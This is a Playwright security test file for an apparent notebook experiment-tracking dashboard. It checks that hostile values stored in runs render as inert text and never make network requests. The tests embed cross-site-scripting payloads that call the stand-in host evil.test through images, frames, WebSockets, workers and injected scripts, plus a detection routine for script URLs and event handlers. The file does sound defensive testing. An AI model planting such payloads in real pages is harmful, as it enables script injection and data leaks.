"""Can what a stranger left in a store become markup, run, or reach a network, wherever a person looks at it?"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

import nbtrack
from nbtrack.dashboard.widget import Dashboard
from nbtrack.stores.base import Store
from tests.conftest import empty_database

from . import kernel_page
from .hostile_store import CORPUS, FILES, MARKUP, file_names, make
from .jupyter import ROOT
from .traffic import NBCONVERTS_OWN, Traffic

pytestmark = pytest.mark.browser
PLOTLY = 60_000  # ms; its five megabytes of code are read anew for every frame
# That a script in its sandbox was kept from this page is an error of that script.
KEPT_IN_SANDBOX = re.compile(
    r".*Blocked a frame with origin \"null\" from accessing a cross-origin frame"
    r"|Ignored call to 'alert\(\)'\. The document is sandboxed"
    r"|Blocked opening 'https://evil\.test/window' in a new window because the request was made in a sandboxed frame"
)

# Through shadow roots too: elements of theirs, handlers in attributes, addresses that run, frames of our origin.
FOUND = """() => {
  const bad = [], see = (each) => bad.push(each.outerHTML.slice(0, 200));
  const walk = (root) => {
    for (const each of root.querySelectorAll("*")) {
      if (each.hasAttribute("evil") || each.localName === "x") see(each);
      for (const { name, value } of each.attributes) {
        if (name.startsWith("on")) see(each);
        if (/^(href|src|action|formaction|xlink:href|data)$/.test(name) &&
            /^\\s*(javascript|vbscript):/i.test(value)) see(each);
        if (name === "href" && /^\\s*data:/i.test(value) && each.localName === "a") see(each);
      }
      if (each.localName === "script" && !each.type.match(/json|plain/) && /__pwned/.test(each.textContent)) see(each);
      if (each.localName === "iframe") {
        const rights = each.getAttribute("sandbox");
        if (rights === null || /same-origin|top-navigation|popups|modals|forms/.test(rights)) see(each);
      }
      if (each.shadowRoot) walk(each.shadowRoot);
    }
  };
  walk(document);
  return { bad, pwned: window.__pwned ?? null, polluted: {}.polluted ?? null };
}"""


@dataclass
class Watch:
    """What a page did that a stranger could have wanted."""

    page: Page
    said: list[str] = field(default_factory=list)
    asked: list[str] = field(default_factory=list)
    opened: list[str] = field(default_factory=list)

    @classmethod
    def over(cls, page: Page) -> Watch:
        watch = cls(page)
        page.on("dialog", lambda dialog: (watch.said.append(dialog.message), dialog.dismiss()))
        page.on("popup", lambda popup: watch.opened.append(popup.url))
        page.context.route(is_of_a_network, lambda route: (watch.asked.append(route.request.url), route.abort()))
        return watch

    def nothing_happened(self) -> None:
        assert self.page.evaluate(FOUND) == {"bad": [], "pwned": None, "polluted": None}
        assert self.said == []
        assert self.opened == []
        asked = [*self.asked, *getattr(self.page, "tried", [])]
        assert [url for url in asked if not NBCONVERTS_OWN.match(url)] == []


def is_of_a_network(url: str) -> bool:
    """A request that a policy forbids does not come as far as to be routed."""
    return not url.startswith(("file:", "blob:", "data:", "about:", "https://plain.test/page"))


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Store, list[str]]]:
    folder, here = tmp_path_factory.mktemp("hostile"), Path.cwd()
    os.chdir(folder)
    yield make(empty_database(3, folder))
    os.chdir(here)


@pytest.fixture
def context(browser: Browser) -> Iterator[BrowserContext]:
    made = browser.new_context(viewport={"width": 1200, "height": 900})
    yield made
    made.close()


def live(browser: Browser, dash: Dashboard) -> Watch:
    page = kernel_page.show(browser, dash)
    page.context.on("dialog", lambda dialog: dialog.dismiss())
    return Watch.over(page)


def close(watch: Watch, dash: Dashboard) -> None:
    watch.nothing_happened()
    problems: list[str] = watch.page.problems  # type: ignore[attr-defined]
    left = [each for each in problems if not KEPT_IN_SANDBOX.match(each)]
    assert left == [], left
    watch.page.context.close()
    dash.close()


ASKS = """<img src="https://evil.test/image"><iframe srcdoc="<img src='https://evil.test/frame'>"></iframe><script>
new WebSocket("wss://evil.test/socket");
new Worker(URL.createObjectURL(new Blob(["fetch('https://evil.test/worker')"])));
</script>"""


def test_no_way_of_a_page_to_a_network_is_overlooked(browser: Browser, traffic: Traffic) -> None:
    """That no view asks for anything is asserted after every test that looks at one."""
    page = browser.new_page()
    page.set_content(ASKS)
    wanted = {
        "https://evil.test/image",
        "https://evil.test/frame",
        "wss://evil.test/socket",
        "https://evil.test/worker",
    }
    deadline = time.monotonic() + 15
    while not wanted <= set(traffic.remote):
        assert time.monotonic() < deadline, traffic.remote
        page.wait_for_timeout(50)
    page.close()
    traffic.remote.clear()


def columns_of(store: Store, run: str) -> list[str]:
    data = store.run(run).data
    return [*(f"params.{key}" for key in data.params), *(f"metrics.{key}" for key in data.metrics)]


def test_names_keys_and_values_are_text_in_the_table_its_menus_and_charts(
    browser: Browser, hostile: tuple[Store, list[str]]
) -> None:
    store, runs = hostile
    dash = nbtrack.dashboard(store, columns=columns_of(store, runs[0])[:24])
    dash.selected = runs[:5]
    watch = live(browser, dash)
    page = watch.page
    for name in MARKUP[:4]:
        expect(page.locator(".nbt-lines").get_by_text(name).first).to_be_visible()
    expect(page.locator(".nbt-lower canvas").first).to_be_visible()
    box = page.get_by_role("combobox", name="Filter runs")
    for start in ("params.", "tags.", "metrics."):
        box.fill(start)
        expect(page.get_by_role("option").first).to_be_visible()
        watch.nothing_happened()
    box.fill(f"params.`{MARKUP[5]}` = '{MARKUP[5]}'")
    expect(page.locator(".nbt-lines [role=row]")).to_have_count(2)
    box.fill("")
    page.locator(".nbt-lines [role=row]").nth(3).click(button="right")
    watch.nothing_happened()
    page.keyboard.press("Escape")
    page.locator(".nbt-lower .u-over").first.hover()
    close(watch, dash)


def test_a_run_page_shows_all_of_a_strangers_run_as_text(browser: Browser, hostile: tuple[Store, list[str]]) -> None:
    store, runs = hostile
    dash = nbtrack.show(runs[0], store=store)
    watch = live(browser, dash)
    page = watch.page
    note = page.locator(".nbt-markdown")
    expect(note).to_contain_text("[look](javascript:")
    assert note.locator("a").evaluate_all("all => all.every(each => /^https?:/.test(each.getAttribute('href')))")
    assert note.locator("img").count() == 0
    for name in ("Datasets", "Log", "Code"):
        page.get_by_role("button", name=name, exact=True).click()
    expect(page.get_by_role("rowheader", name=MARKUP[5], exact=True).last).to_be_visible()
    page.get_by_text("System tags").click()
    watch.nothing_happened()
    page.get_by_role("button", name="Files", exact=True).click()
    for name in [*FILES, *file_names()]:
        page.locator(".nbt-file").filter(has=page.get_by_text(name, exact=True)).click()
        if "\\" in name:  # a folder on Windows: never read
            page.locator(".nbt-files .nbt-preview").get_by_text(f"'{name}' leaves the run's artifacts").wait_for()
        else:
            page.locator(".nbt-files .nbt-preview-head").get_by_text(name, exact=True).wait_for()
        watch.nothing_happened()
    close(watch, dash)


def test_files_of_every_kind_run_nothing_outside_their_sandbox(
    browser: Browser, hostile: tuple[Store, list[str]]
) -> None:
    store, runs = hostile
    dash = nbtrack.show(runs[0], store=store)
    watch = live(browser, dash)
    page = watch.page
    page.get_by_role("button", name="Files", exact=True).click()
    page.get_by_role("treeitem", name="page.html", exact=False).click()
    page.get_by_role("button", name="Run scripts").click()
    inner = page.frame_locator(".nbt-sandbox").frame_locator("iframe")
    expect(inner.get_by_text("scripts ran")).to_be_visible()
    page.wait_for_timeout(200)
    watch.nothing_happened()
    page.get_by_role("treeitem", name="figure.plotly.json", exact=False).click()
    expect(page.frame_locator(".nbt-plotly-frame").locator(".main-svg").first).to_be_visible(timeout=PLOTLY)
    close(watch, dash)


def test_a_comparison_shows_keys_values_code_and_files_as_text(
    browser: Browser, hostile: tuple[Store, list[str]]
) -> None:
    store, runs = hostile
    dash = nbtrack.compare(runs[0], runs[1], runs[6], store=store)
    watch = live(browser, dash)
    expect(watch.page.get_by_role("rowheader", name=MARKUP[5], exact=True).first).to_be_visible()
    for name in ("Code", "Packages", "Files"):
        for each in watch.page.get_by_role("button", name=name, exact=True).all():
            each.click()
            watch.page.wait_for_timeout(100)
    close(watch, dash)


def test_a_saved_page_holds_every_string_and_runs_none(
    context: BrowserContext, hostile: tuple[Store, list[str]], tmp_path: Path
) -> None:
    store, runs = hostile
    dash = nbtrack.dashboard(store, columns=columns_of(store, runs[0])[:24])
    dash.selected = runs[:3]
    path = dash.save_html(tmp_path / "page.html")
    dash.close()
    watch = Watch.over(context.new_page())
    page = watch.page
    page.goto(Path(path).as_uri())
    for name in MARKUP[:4]:
        expect(page.locator(".nbt-lines").get_by_text(name).first).to_be_visible()
    names = page.locator(".nbt-fallback td:first-child").all_text_contents()
    assert [each[:50] for each in names] == [" ".join(each.split())[:50] for each in ("all", *CORPUS)][: len(names)]
    assert len(names) > len(MARKUP)
    watch.nothing_happened()
    page.locator(".nbt-lines [role=row]").first.hover()
    page.mouse.wheel(0, 10_000)
    expect(page.locator(".nbt-lines").get_by_text(CORPUS[-1]).first).to_be_visible()
    watch.nothing_happened()
    page.get_by_role("tab", name="Run").click()
    expect(page.locator(".nbt-markdown")).to_be_visible()
    watch.nothing_happened()
    # What a bug would let in still could load nothing and send nothing.
    page.evaluate("() => { new Image().src = 'https://evil.test/a'; fetch('https://evil.test/b').catch(() => 0) }")
    page.evaluate(
        "() => { const s = document.createElement('script'); s.src = 'https://evil.test/c'; document.body.append(s) }"
    )
    page.wait_for_timeout(100)
    assert [url for url in watch.asked if "evil.test/" in url] == []


CELLS = (
    "%load_ext nbtrack\nimport nbtrack, json\nfrom pathlib import Path\n"
    "corpus = json.loads(Path('corpus.json').read_text())\nnbtrack.set_tracking_uri('sqlite:///mlflow.db')",
    "%%track place\nfor n, value in enumerate(corpus):\n    nbtrack.log_param(f'q{n}', value)\n"
    "nbtrack.set_tag('mlflow.runName', corpus[5])\nprint(*corpus)\nraise ValueError(corpus[5])",
    "%track ls",
    "%track show {run}",
    "%track diff {run} {other}",
    "nbtrack.dashboard()",
    "nbtrack.search_runs(experiment_ids=['1'])",
)


@pytest.mark.slow  # a kernel of its own, and nbconvert
def test_cards_tables_and_dashboards_of_an_exported_notebook_run_nothing(
    context: BrowserContext, hostile: tuple[Store, list[str]], tmp_path: Path
) -> None:
    _, runs = hostile
    book = nbformat.v4.new_notebook()
    for cell in CELLS:
        made = nbformat.v4.new_code_cell(cell.replace("{run}", runs[0]).replace("{other}", runs[1]))
        made.metadata["tags"] = ["raises-exception"]
        book.cells.append(made)
    nbformat.write(book, "book.ipynb")
    Path("corpus.json").write_text(json.dumps(CORPUS))
    command = [
        sys.executable,
        "-m",
        "nbconvert",
        "--to",
        "html",
        "--execute",
        "book.ipynb",
        "--output-dir",
        str(tmp_path),
    ]
    environment = {**os.environ, "PYTHONPATH": str(ROOT)}
    done = subprocess.run(command, capture_output=True, text=True, env=environment, timeout=120)
    assert done.returncode == 0, done.stderr
    watch = Watch.over(context.new_page())
    page = watch.page
    page.goto((tmp_path / "book.html").as_uri(), wait_until="domcontentloaded")
    expect(page.locator(".nbtrack-card").first).to_contain_text(MARKUP[5])
    expect(page.locator(".nbtrack-table").first).to_contain_text(MARKUP[5][:20])
    expect(page.locator(".nbt-lines").get_by_text(MARKUP[1]).first).to_be_attached()
    watch.nothing_happened()
